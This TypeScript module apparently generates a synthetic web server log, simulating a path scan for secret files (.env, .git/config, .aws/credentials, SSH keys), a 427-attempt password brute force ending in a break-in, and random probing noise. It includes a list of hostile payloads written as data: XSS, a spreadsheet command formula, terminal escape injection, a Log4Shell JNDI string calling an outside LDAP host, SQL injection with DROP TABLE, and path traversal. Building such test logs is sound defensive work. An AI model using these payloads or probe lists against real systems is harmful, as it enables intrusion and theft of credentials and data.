/**
 * Those who look for holes: one thorough scan, one patient guesser of passwords, and the noise every server hears.
 */
import { programs } from "./agents.ts"
import { DAY, DAYS, INTRUSION, SCAN, START, at } from "./clock.ts"
import type { Actor, Chapter, Emit } from "./log.ts"
import type { Random } from "./random.ts"
import { answer } from "./site.ts"
import type { Host } from "./site.ts"

export const intrude = (random: Random, emit: Emit): void => {
  scan(random.fork("scan"), emit)
  guessPasswords(random.fork("guesses"), emit)
  makeNoise(random.fork("noise"), emit)
}

type Ask = (actor: Actor, host: Host, method: string, target: string, time: number, more?: Partial<More>) => void
type More = { status: number; bytes: number; referrer: string; chapter: Chapter }

const asking =
  (emit: Emit): Ask =>
  (actor, host, method, target, time, more = {}) => {
    const { status, bytes } = answer(host, target, time)
    emit({ kind: "hit", time, host, actor, method, target, status, bytes: method === "HEAD" ? 0 : bytes, ...more })
  }

const names = `
  wp-login.php wp-admin/ wp-config.php wp-content/debug.log wp-includes/version.php xmlrpc.php .env .env.local
  .env.production .git/config .git/HEAD .svn/entries .hg/requires .DS_Store .aws/credentials .ssh/id_rsa
  .vscode/sftp.json phpmyadmin/ phpMyAdmin/index.php pma/ adminer.php mysql/ phpinfo.php info.php test.php
  shell.php c99.php upload.php install.php setup.php config.php configuration.php settings.php database.yml
  config.json composer.json package.json Dockerfile docker-compose.yml backup/ backup.sql dump.sql db.sql
  site.tar.gz www.zip old/ admin/ administrator/ admin.php manager/html console/ jenkins/ actuator/env
  actuator/health solr/admin/ _profiler/phpinfo telescope/requests
  vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php cgi-bin/test.cgi cgi-bin/luci owa/auth/logon.aspx
  autodiscover/autodiscover.xml ecp/default.aspx remote/login HNAP1/ boaform/admin/formLogin druid/index.html
  nacos/ swagger-ui.html graphql server-status .htaccess .htpasswd web.config crossdomain.xml elmah.axd trace.axd
  error_log
`
  .trim()
  .split(/\s+/)
const forbidden = new Set(["server-status", ".htaccess", ".htpasswd"])

/** Every name as it is, then again with the endings of forgotten copies, from one address in a few minutes. */
const scan = (random: Random, emit: Emit): void => {
  const ask = asking(emit)
  const actor: Actor = { client: "198.51.100.66", agent: "gobuster/3.8.2", protocol: "HTTP/1.1", role: "scanner" }
  let time = SCAN
  const look = (target: string, status?: number): void => {
    const answered = status === undefined ? {} : { status, bytes: 199 }
    ask(actor, "www.example.com", "GET", target, time, { ...answered, chapter: "scan" })
    time += random.skewed(0.2, 3.4)
  }
  for (const target of ["/", "/robots.txt", "/sitemap.xml"]) look(target)
  for (const name of names) look(`/${name}`, forbidden.has(name) ? 403 : undefined)
  for (const ending of [".bak", ".old", ".save", "~", ".swp", ".1"]) {
    for (const name of names.filter((name) => !name.endsWith("/") && !forbidden.has(name))) look(`/${name}${ending}`)
  }
}

/** Guess after guess at the sign-in, until one fits; then a look around the account. */
const guessPasswords = (random: Random, emit: Emit): void => {
  const ask = asking(emit)
  const actor: Actor = {
    client: "203.0.113.59",
    agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:72.0) Gecko/20100101 Firefox/72.0",
    protocol: "HTTP/1.1",
    role: "intruder"
  }
  const referrer = "https://www.example.com/login"
  const chapter = "guesses"
  let time = INTRUSION
  ask(actor, "www.example.com", "GET", "/login", time)
  for (let n = 0; n < 427; n++) {
    time += random.between(3, 12)
    ask(actor, "www.example.com", "POST", "/login", time, { status: 401, bytes: 7410, referrer, chapter })
  }
  time += random.between(3, 12)
  ask(actor, "www.example.com", "POST", "/login", time, { status: 302, bytes: 0, referrer, chapter: "break-in" })
  for (const target of ["/account", "/account/orders", "/account/orders?page=2", "/account"]) {
    time += random.between(1, 5)
    ask(actor, "www.example.com", "GET", target, time, { referrer, chapter: "break-in" })
  }
}

const probes = [
  "GET /.env",
  "GET /wp-login.php",
  "GET /.git/config",
  "POST /xmlrpc.php",
  "GET /phpmyadmin/",
  "GET /cgi-bin/luci",
  "POST /boaform/admin/formLogin",
  "GET /actuator/health",
  "GET /login.action",
  "GET /admin/",
  "GET /favicon.ico",
  "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "HEAD /backup.zip",
  "GET /"
]

/** A few strangers a day, each with a few requests; some of what they send is meant to harm whoever reads the log. */
const makeNoise = (random: Random, emit: Emit): void => {
  const ask = asking(emit)
  for (let day = 0; day < DAYS; day++) {
    for (let n = random.int(9, 15); n > 0; n--) {
      const client = random.chance(0.2)
        ? `2001:db8:bad:${random.int(1, 0xfff).toString(16)}::1`
        : `192.0.2.${random.int(13, 36)}`
      const actor = stranger(client, random.fork(client))
      const host = random.pick(["www.example.com", "example.com", "example.com", "blog.example.net"] as const)
      let time = START + day * DAY + random.between(0, DAY - 60)
      for (let probe = random.int(1, 4); probe > 0; probe--) {
        const [method, target] = random.pick(probes).split(" ") as [string, string]
        ask(actor, host, method, target, time)
        time += random.between(0.3, 4)
      }
    }
  }
  for (const [when, host, client, agent, target, referrer] of hostile) {
    const actor: Actor = { client, agent, protocol: "HTTP/1.1", role: "scanner" }
    ask(actor, host, "GET", target, at(when), { chapter: "hostile", ...(referrer !== undefined && { referrer }) })
  }
  for (const [when, host, client, request, status, bytes] of odd) {
    const actor: Actor = { client, protocol: "HTTP/1.1", role: "scanner" }
    const [method, target] = request.startsWith("GET /") ? ["GET", request.slice(4)] : ["", ""]
    emit({ kind: "hit", time: at(when), host, actor, method, target, request, status, bytes, chapter: "odd" })
  }
}

/** The same client always introduces itself in the same way, or not at all. */
const stranger = (client: string, random: Random): Actor => ({
  client,
  protocol: random.chance(0.2) ? "HTTP/1.0" : "HTTP/1.1",
  role: "scanner",
  ...(random.chance(0.85) && { agent: random.pick([...programs, "Mozilla/5.0"]) })
})

type Hostile = readonly [when: string, host: Host, client: string, agent: string, target: string, referrer?: string]

/** Texts as the server writes them, its own escapes included, that a careless reader would run. */
const hostile: ReadonlyArray<Hostile> = [
  ["2026-11-03T21:14:02", "www.example.com", "203.0.113.71", "<script>alert(1)</script>", "/"],
  [
    "2026-11-03T21:14:03",
    "www.example.com",
    "203.0.113.71",
    "<script>alert(1)</script>",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"
  ],
  ["2026-11-04T13:40:51", "www.example.com", "203.0.113.72", "=cmd|' /C calc'!A0", "/shop/seeds/"],
  ["2026-11-07T02:09:33", "blog.example.net", "203.0.113.73", "Mozilla/5.0", "/", '\\"><img src=x onerror=alert(1)>'],
  ["2026-11-08T16:55:10", "www.example.com", "203.0.113.74", "\\x1b]0;owned\\x07\\x1b[2J", "/"],
  [
    "2026-11-11T05:27:45",
    "www.example.com",
    "203.0.113.75",
    "${jndi:ldap://198.51.100.9:1389/a}",
    "/?x=${jndi:ldap://198.51.100.9:1389/a}"
  ],
  [
    "2026-11-13T08:02:19",
    "www.example.com",
    "203.0.113.76",
    "python-requests/2.32.5",
    "/shop/item.php?id=17'%20OR%20'1'='1"
  ],
  [
    "2026-11-13T08:02:21",
    "www.example.com",
    "203.0.113.76",
    "python-requests/2.32.5",
    "/shop/item.php?id=17;DROP%20TABLE%20orders--"
  ],
  ["2026-11-15T11:31:07", "www.example.com", "2001:db8:bad:7::1", "Mozilla/5.0", "/search?q=../../../../etc/passwd", ""]
]

type Odd = readonly [when: string, host: Host, client: string, request: string, status: number, bytes: number]

/** Requests that are none, or hardly. */
const odd: ReadonlyArray<Odd> = [
  ["2026-11-02T06:11:40", "example.com", "192.0.2.51", "\\x16\\x03\\x01\\x02", 400, 226],
  ["2026-11-03T18:22:17", "www.example.com", "203.0.113.141", "-", 408, 0],
  ["2026-11-04T03:30:59", "example.com", "192.0.2.58", "\\x16\\x03\\x01\\x05\\xa8\\x01", 400, 226],
  ["2026-11-06T09:01:12", "www.example.com", "192.0.2.61", "GET /", 200, 25_201],
  ["2026-11-07T19:48:30", "www.example.com", "2001:db8:4a0:77:1:2:3:4", "-", 408, 0],
  ["2026-11-09T22:10:05", "example.com", "192.0.2.56", "GET /index.html", 301, 240],
  ["2026-11-10T01:17:52", "api.example.com", "192.0.2.53", "\\x16\\x03\\x01", 400, 226],
  ["2026-11-11T12:00:44", "docs.example.org", "192.0.2.57", "", 400, 226],
  ["2026-11-12T07:15:20", "example.com", "192.0.2.62", "\\x05\\x01\\x00", 400, 226],
  ["2026-11-12T17:20:03", "blog.example.net", "203.0.113.188", "-", 408, 0],
  ["2026-11-14T23:05:36", "www.example.com", "192.0.2.55", "HELP", 400, 226],
  ["2026-11-15T15:44:21", "www.example.com", "198.51.100.131", "-", 408, 0]
]
